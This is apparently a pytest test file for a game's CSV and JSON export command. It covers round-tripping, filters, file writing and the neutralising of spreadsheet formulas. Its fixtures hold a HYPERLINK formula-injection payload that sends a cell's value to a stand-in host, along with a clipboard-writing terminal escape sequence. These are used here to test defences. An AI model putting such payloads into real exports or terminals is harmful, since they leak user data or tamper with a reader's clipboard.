"""``counterpoint export``: CSV that round-trips and cannot run formulas, JSON, filters, files."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from game.cli import main
from game.progress import export
from game.progress.models import Attempt
from game.progress.store import Store

T0 = datetime(2025, 3, 1, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
AWKWARD = 'Line one,\nline "two"\r\nand a NUL \x00 and ünïcødé — ✓'
LOOKS_LIKE_FORMULAS = ["+1", "-1", "@SUM(A1)", "\tx", "\rx"]


@pytest.fixture
def saves(tmp_path: Path) -> Path:
    """Ada on days 0, 1 and 5 (pack 'nk'), @Bob on day 3 (pack 'other'), in a round."""
    folder = tmp_path / "saves"
    with Store.open(folder, clock=lambda: T0) as store:
        rows = [
            ("Ada", "nk", "alpha", FORMULA, 40, ("x", "y"), 0, None),
            ("Ada", "nk", "beta", AWKWARD, 75, ("z",), 1, None),
            ("Ada", "nk", "alpha", "plain answer", 90, (), 5, None),
        ]
        round_id = store.start_round("@Bob", "other", "practice")
        rows.append(("@Bob", "other", "-gamma", "+1 for this", 10, ("=p",), 3, round_id))
        for player, pack, position, text, score, points, day, rid in rows:
            store.record_attempt(
                Attempt(player, pack, "hash-" + pack, position, "rebut", text, score, points,
                        12.345, rid, T0 + timedelta(days=day))
            )  # fmt: skip
    return folder


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["export", *args])
    out, err = capsys.readouterr()
    return code, out, err


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_round_trips_through_the_csv_module(
    capsys: pytest.CaptureFixture[str], saves: Path
) -> None:
    code, out, _ = run(capsys, "--saves", str(saves))
    assert code == 0
    header = next(csv.reader(io.StringIO(out, newline="")))
    assert tuple(header) == export.COLUMNS
    rows = read_csv(out)
    assert [r["player"] for r in rows] == ["Ada", "Ada", "'@Bob", "Ada"]  # time order
    beta = rows[1]
    assert beta["answer"] == AWKWARD  # newlines, quotes, NUL and non-ASCII intact
    assert (beta["pack"], beta["pack_hash"], beta["position"], beta["stance"]) == (
        "nk", "hash-nk", "beta", "rebut",
    )  # fmt: skip
    assert (beta["score"], beta["points"], beta["seconds"]) == ("75", "z", "12.3")
    assert beta["time"] == "2025-03-02T12:00:00+00:00" and beta["round"] == ""
    assert rows[0]["points"] == "x y"
    assert rows[2]["round"] != "" and rows[2]["points"] == "'=p"
    assert out.endswith("\r\n")


def test_cells_a_spreadsheet_would_run_are_neutralised(
    capsys: pytest.CaptureFixture[str], saves: Path
) -> None:
    _, out, _ = run(capsys, "--saves", str(saves))
    rows = read_csv(out)
    assert rows[0]["answer"] == "'" + FORMULA
    assert rows[2]["answer"] == "'+1 for this"
    assert rows[2]["position"] == "'-gamma"
    assert rows[3]["answer"] == "plain answer"
    for cell in LOOKS_LIKE_FORMULAS:
        assert export.neutralise(cell) == "'" + cell
    for cell in ["plain", "1+1", "a=b", "", "'quoted"]:
        assert export.neutralise(cell) == cell


def test_a_terminal_gets_no_escape_sequences(saves: Path) -> None:
    with Store.open(saves) as store:
        store.record_attempt(
            Attempt("Ada", "nk", "h", "alpha", "rebut", "\x1b]52;c;ZXZpbA==\x07hi", 5, (), 1.0)
        )
        last = store.history("Ada", answers=True)[-1]
    assert export.csv_cells(last, terminal=True)[export.COLUMNS.index("answer")] == "hi"
    assert "\x1b" in export.csv_cells(last)[export.COLUMNS.index("answer")]  # a file keeps it


@pytest.fixture
def local_zone(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], None]]:
    """Set the process's local time zone (POSIX TZ strings need no zone database)."""

    def use(tz: str) -> None:
        monkeypatch.setenv("TZ", tz)
        time.tzset()

    yield use
    monkeypatch.undo()
    time.tzset()


def test_since_filters_by_date_or_time(
    capsys: pytest.CaptureFixture[str], saves: Path, local_zone: Callable[[str], None]
) -> None:
    local_zone("UTC0")
    _, out, _ = run(capsys, "--saves", str(saves), "--since", "2025-03-03")
    assert [r["time"][:10] for r in read_csv(out)] == ["2025-03-04", "2025-03-06"]
    local_zone("KIR-14")  # UTC+14: 3 March starts at 10:00 UTC on 2 March
    _, out, _ = run(capsys, "--saves", str(saves), "--since", "2025-03-03")
    assert [r["time"][:10] for r in read_csv(out)] == ["2025-03-02", "2025-03-04", "2025-03-06"]
    _, out, _ = run(capsys, "--saves", str(saves), "--since", "2025-03-02T12:00:00Z")
    assert [r["time"][:10] for r in read_csv(out)] == ["2025-03-02", "2025-03-04", "2025-03-06"]
    with pytest.raises(SystemExit) as stop:
        main(["export", "--saves", str(saves), "--since", "last week"])
    assert stop.value.code == 2
    assert "not a date" in capsys.readouterr().err


def test_player_and_pack_filters(capsys: pytest.CaptureFixture[str], saves: Path) -> None:
    _, out, _ = run(capsys, "--saves", str(saves), "--player", "ada")
    assert {r["player"] for r in read_csv(out)} == {"Ada"} and len(read_csv(out)) == 3
    _, out, _ = run(capsys, "--saves", str(saves), "--pack", "other")
    assert [r["position"] for r in read_csv(out)] == ["'-gamma"]
    code, out, err = run(capsys, "--saves", str(saves), "--player", "Zed")
    assert code == 2 and out == ""
    assert "no player named 'Zed'" in err and "Ada" in err


def test_json_shape(capsys: pytest.CaptureFixture[str], saves: Path) -> None:
    code, out, _ = run(capsys, "--saves", str(saves), "--format", "json")
    assert code == 0
    document = json.loads(out)
    assert document["version"] == 1 and document["columns"] == list(export.COLUMNS)
    first, beta, bob, _ = document["attempts"]
    assert list(first) == list(export.COLUMNS)
    assert first["answer"] == FORMULA  # JSON keeps values exactly as stored
    assert first["points"] == ["x", "y"] and first["score"] == 40 and first["round"] is None
    assert beta["answer"] == AWKWARD and beta["seconds"] == 12.3
    assert bob["player"] == "@Bob" and isinstance(bob["round"], int)
    assert out.isascii()


def test_output_file_is_written_whole_and_never_replaced_without_force(
    capsys: pytest.CaptureFixture[str], saves: Path, tmp_path: Path
) -> None:
    target = tmp_path / "out" / "stats.csv"
    target.parent.mkdir()
    code, out, err = run(capsys, "--saves", str(saves), "--output", str(target))
    assert code == 0 and out == "" and "Exported 4 answers" in err
    first = target.read_bytes()
    assert len(read_csv(first.decode("utf-8"))) == 4 and not first.startswith(b"\xef\xbb\xbf")
    code, _, err = run(capsys, "--saves", str(saves), "--player", "Ada", "-o", str(target))
    assert code == 2 and "already exists" in err and "--force" in err
    assert target.read_bytes() == first
    code, _, _ = run(capsys, "--saves", str(saves), "--player", "Ada", "-o", str(target), "--force")
    assert code == 0 and len(read_csv(target.read_text("utf-8"))) == 3
    assert [p.name for p in target.parent.iterdir()] == ["stats.csv"]  # no temporary left


def test_excel_option_adds_a_byte_order_mark(
    capsys: pytest.CaptureFixture[str], saves: Path, tmp_path: Path
) -> None:
    target = tmp_path / "excel.csv"
    assert run(capsys, "--saves", str(saves), "--excel", "--output", str(target))[0] == 0
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert len(read_csv(data.decode("utf-8-sig"))) == 4
    code, _, err = run(capsys, "--saves", str(saves), "--excel", "--format", "json")
    assert code == 2 and "CSV only" in err


def test_an_unwritable_output_is_one_clear_line(
    capsys: pytest.CaptureFixture[str], saves: Path, tmp_path: Path
) -> None:
    code, _, err = run(capsys, "--saves", str(saves), "-o", str(tmp_path / "missing" / "x.csv"))
    assert code == 2 and err.startswith("counterpoint: cannot write in") and "Traceback" not in err
    code, _, err = run(capsys, "--saves", str(saves), "-o", str(tmp_path))
    assert code == 2 and "is a folder" in err


def test_no_saves_gives_just_the_header(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, out, _ = run(capsys, "--saves", str(tmp_path / "none"))
    assert code == 0 and out == ",".join(export.COLUMNS) + "\r\n"
    assert not (tmp_path / "none").exists()  # exporting creates no saves
    code, out, _ = run(capsys, "--saves", str(tmp_path / "none"), "--format", "json")
    assert json.loads(out)["attempts"] == []


def test_help_documents_every_column(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    out = capsys.readouterr().out
    for column in export.COLUMNS:
        assert f"\n  {column} " in out
    assert "--saves" in out and "--packs" in out and "apostrophe" in out
